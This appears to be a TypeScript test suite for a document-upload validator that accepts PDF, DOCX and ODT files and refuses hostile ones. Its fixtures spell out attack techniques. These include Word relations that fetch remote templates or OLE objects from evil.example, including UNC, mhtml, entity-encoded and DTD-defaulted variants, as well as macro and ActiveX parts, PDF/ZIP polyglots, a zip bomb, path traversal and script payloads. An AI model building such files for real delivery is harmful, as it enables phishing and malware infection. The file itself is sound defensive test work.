import { checkDocument } from './check-document.ts';
import { DOCUMENT_LIMITS } from './document-limits.ts';
import { docxFiles, makeArchive, WORD, makePdf, odtFiles } from './documents.fixture.ts';

const pdf = makePdf();
const docx = makeArchive(docxFiles());
const macro = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const relation = (kind: string, target: string) =>
  `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
const withRelation = (kind: string, target: string, name = 'word/_rels/settings.xml.rels') =>
  makeArchive(docxFiles([{ name, content: relation(kind, target) }]));
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);

test.each([
  ['a PDF', pdf, 'pdf'],
  ['a PDF with blanks behind its end', Buffer.concat([pdf, Buffer.from('\r\n\0\0 ')]), 'pdf'],
  ['a PDF with an archive in it', Buffer.concat([pdf, docx, pdf]), 'pdf'],
  ['a text of Word', docx, 'docx'],
  ['a text of Word with a link', withRelation('hyperlink', 'https://verein.example/'), 'docx'],
  ['one with a template of its writer', withRelation('attachedTemplate', 'file:///C:\\Vorlagen\\Brief.dotx'), 'docx'],
  ['a text of LibreOffice', makeArchive(odtFiles()), 'odt'],
])('knows %s', async (_, file, type) => {
  expect(await checkDocument(file)).toBe(type);
});

test.each([
  ['nothing', Buffer.alloc(0), 415, 'weder PDF noch DOCX'],
  ['a page', Buffer.from('<!doctype html><script>alert(1)</script>'), 415, 'weder PDF noch DOCX'],
  ['a program', Buffer.from('MZ\x90\0'), 415, 'weder PDF noch DOCX'],
  ['a PDF behind a page', Buffer.concat([Buffer.from('<html>'), pdf]), 415, 'weder PDF noch DOCX'],
  ['an old text of Word', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 415, 'weder PDF noch DOCX'],
  ['half a PDF', pdf.subarray(0, pdf.length - 20), 422, 'fehlt das Ende'],
  [
    'a PDF with a page behind its end',
    Buffer.concat([pdf, Buffer.from('<script>alert(1)</script>')]),
    422,
    'fehlt das Ende',
  ],
  [
    'a PDF that is an archive, too',
    Buffer.concat([pdf, makeArchive(docxFiles(), `startxref\n0\n%%EOF`)]),
    422,
    'zugleich ein ZIP',
  ],
  ['a table', makeArchive([{ name: '[Content_Types].xml', content: '<Types/>' }]), 415, 'weder PDF noch DOCX'],
  ['an archive of Java', makeArchive([{ name: 'META-INF/MANIFEST.MF', content: '' }]), 415, 'weder PDF noch DOCX'],
  ['a text of Word with macros by its type', makeArchive(docxFiles([], macro)), 422, 'Makros'],
  [
    'a text of Word with macros called otherwise',
    makeArchive(docxFiles([{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen' }])),
    422,
    'Makros',
  ],
  [
    'a text of Word with macros by its type in disguise',
    makeArchive(docxFiles([], `${macro.replace('macro', 'm&#97;cro')}" Of="${WORD}`)),
    422,
    'Makros',
  ],
  ['a text that fetches its template', withRelation('attachedTemplate', 'https://evil.example/a.dotm'), 422, 'Netz'],
  ['one from another computer', withRelation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm'), 422, 'Netz'],
  ['one spelt as Windows reads it', withRelation('attachedTemplate', 'file:////evil.example/a.dotm'), 422, 'Netz'],
  [
    'one with its slashes the other way',
    withRelation('attachedTemplate', 'file:\\\\evil.example\\a.dotm'),
    422,
    'Netz',
  ],
  [
    'a text with an object from elsewhere',
    withRelation('oleObject', 'mhtml:http://evil.example/a!x', 'word/_rels/document.xml.rels'),
    422,
    'Netz',
  ],
  [
    'one that a declaration makes one',
    makeArchive(
      docxFiles([
        {
          name: 'word/_rels/settings.xml.rels',
          content: `<!DOCTYPE Relationships [<!ATTLIST Relationship TargetMode CDATA "External">]>${relation('attachedTemplate', 'https://evil.example/a.dotm').replace(' TargetMode="External"', '')}`,
        },
      ]),
    ),
    422,
    'beschädigt',
  ],
  ['one in disguise', withRelation('attachedTempl&#97;te', '&#104;ttp://evil.example/a.dotm'), 422, 'Netz'],
  [
    'a text whose parts are told of in no XML',
    makeArchive(docxFiles([{ name: 'word/_rels/a.rels', content: '<a' }])),
    422,
    'beschädigt',
  ],
  ['a text with ActiveX', makeArchive(docxFiles([{ name: 'word/activeX/a.bin', content: '' }])), 422, 'Makros'],
  [
    'a text of LibreOffice with macros',
    makeArchive(odtFiles([{ name: 'Basic/Standard/Module1.xml', content: '' }])),
    422,
    'Makros',
  ],
  ['a text whose description is no XML', makeArchive(docxFiles([], '"<')), 422, 'beschädigt'],
  ['half an archive', docx.subarray(0, docx.length - 30), 422, 'beschädigt'],
  ['an archive with something behind it', Buffer.concat([docx, Buffer.from('more')]), 422, 'beschädigt'],
  ['an archive with a comment', makeArchive(docxFiles(), '<script>'), 422, 'mehr als ein Dokument'],
  ['an archive in which a name comes twice', makeArchive([...docxFiles(), ...docxFiles()]), 422, 'zweimal'],
  ['an archive that leaves its folder', makeArchive(docxFiles([{ name: '../a', content: '' }])), 422, 'beschädigt'],
  [
    'an encrypted archive',
    makeArchive(docxFiles([{ name: 'word/a.xml', content: 'x', flags: 1 }])),
    422,
    'mit einem Passwort',
  ],
  [
    'a file that unpacks to a thousand times its size',
    makeArchive(docxFiles([{ name: 'a', content: zeros(30) }])),
    422,
    'viel zu groß',
  ],
  [
    'a file that claims to be small',
    makeArchive(docxFiles([{ name: 'a', content: zeros(30), claimed: 10 }])),
    422,
    'beschädigt',
  ],
  [
    'more files than a text has',
    makeArchive(
      docxFiles(Array.from({ length: DOCUMENT_LIMITS.entries }, (_, index) => ({ name: `a${index}`, content: '' }))),
    ),
    422,
    'viel zu groß',
  ],
])('refuses %s', async (_, file, statusCode, message) => {
  await expect(checkDocument(file)).rejects.toMatchObject({ statusCode, message: expect.stringContaining(message) });
});
